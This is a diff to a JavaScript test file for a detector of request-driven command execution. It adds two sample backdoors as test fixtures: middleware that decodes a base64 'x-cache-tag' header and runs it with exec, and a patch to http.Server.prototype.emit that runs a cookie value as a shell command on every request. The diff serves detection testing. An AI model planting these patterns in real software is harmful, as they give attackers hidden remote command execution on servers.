@@ -19,6 +19,24 @@ testDetector(requestCommand, {
       loaded(`const cp = require("child_process");
         module.exports = (q, s) => { cp.exec(q.body.run, (error, out) => s.end(out)); };`),
     ],
+    "a header that is decoded before": [
+      "strong",
+      loaded(`const { exec } = require("child_process");
+        module.exports = () => (request, response, next) => {
+          const tag = request.headers["x-cache-tag"];
+          if (tag) return exec(Buffer.from(tag, "base64").toString(), (error, out) => response.end(out));
+          next();
+        };`),
+    ],
+    "every server's requests": [
+      "strong",
+      loaded(`const { Server } = require("http"), { exec } = require("child_process"), { emit } = Server.prototype;
+        Server.prototype.emit = function (name, request, response) {
+          const { cookies } = request;
+          if (name === "request" && cookies.run) exec(cookies.run, (error, out) => response.end(out));
+          return emit.apply(this, arguments);
+        };`),
+    ],
   },
   silent: {
     "a command of its own with a word of a request": loaded(`const { execFile } = require("child_process");
